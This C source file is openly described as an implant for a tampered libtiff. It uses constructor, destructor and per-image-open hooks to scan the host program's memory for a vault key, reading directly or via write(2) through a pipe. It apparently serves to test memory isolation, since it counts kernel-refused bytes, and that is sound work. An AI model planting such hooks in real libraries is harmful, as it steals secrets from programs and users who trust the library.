/*
 * A libtiff that somebody tampered with: this file, linked into it, looks for the vault key in the
 * memory of the program that uses the library. TIFF_IMPLANT says how:
 *
 *     constructor   reads the program's data before main does anything
 *     read          reads it directly, whenever a picture is opened
 *     write         asks the kernel to read it, by write(2), whenever a picture is opened
 *     destructor    reads it directly when the process ends
 */
#define _GNU_SOURCE
#include <errno.h>
#include <link.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <tiffio.h>

static const char magic[] = "VAULT-KEY-";

struct range {
    const char *start;
    size_t size;
};

/* dl_iterate_phdr(3) begins with the program itself. Its last writable segment holds its variables. */
static int data_of_program(struct dl_phdr_info *info, size_t size, void *result)
{
    struct range *range = result;
    (void)size;
    for (int i = 0; i < info->dlpi_phnum; i++) {
        const ElfW(Phdr) *segment = &info->dlpi_phdr[i];
        if (segment->p_type == PT_LOAD && (segment->p_flags & PF_W)) {
            range->start = (const char *)(info->dlpi_addr + segment->p_vaddr);
            range->size = segment->p_memsz;
        }
    }
    return 1;
}

static struct range find_data(void)
{
    struct range data = {NULL, 0};
    dl_iterate_phdr(data_of_program, &data);
    return data;
}

static void show_key(const char *place, size_t size)
{
    const char *key = memmem(place, size, magic, sizeof magic - 1);
    if (key)
        printf("implant: found %.63s\n", key);
}

static void read_directly(void)
{
    struct range data = find_data();
    unsigned sum = 0;
    for (size_t i = 0; i < data.size; i++)
        sum = sum * 31 + (unsigned char)data.start[i];
    printf("implant: read all %zu bytes of the program's data (sum %08x)\n", data.size, sum);
    show_key(data.start, data.size);
}

/* Page by page, so that one that the kernel refuses does not hide the others. */
static void read_by_kernel(void)
{
    enum { PAGE = 4096 };
    struct range data = find_data();
    size_t copied = 0;
    size_t refused = 0;
    int ends[2];
    if (pipe(ends))
        return;
    for (size_t at = 0; at < data.size;) {
        static char page[PAGE + 1];
        size_t left = PAGE - ((size_t)(data.start + at) & (PAGE - 1));
        size_t wanted = left < data.size - at ? left : data.size - at;
        ssize_t written = write(ends[1], data.start + at, wanted);
        if (written > 0 && read(ends[0], page, (size_t)written) == written) {
            copied += (size_t)written;
            show_key(page, (size_t)written);
        } else if (errno == EFAULT) {
            refused += wanted;
        }
        at += wanted;
    }
    printf("implant: write(2) copied %zu bytes, refused %zu\n", copied, refused);
}

static int is_chosen(const char *way)
{
    const char *chosen = getenv("TIFF_IMPLANT");
    return chosen && !strcmp(chosen, way);
}

/* libtiff calls this for every picture that is opened. */
static void at_open(TIFF *tiff)
{
    (void)tiff;
    if (is_chosen("read"))
        read_directly();
    if (is_chosen("write"))
        read_by_kernel();
}

__attribute__((constructor)) static void at_start(void)
{
    TIFFSetTagExtender(at_open);
    if (is_chosen("constructor"))
        read_directly();
}

__attribute__((destructor)) static void at_end(void)
{
    if (is_chosen("destructor"))
        read_directly();
}
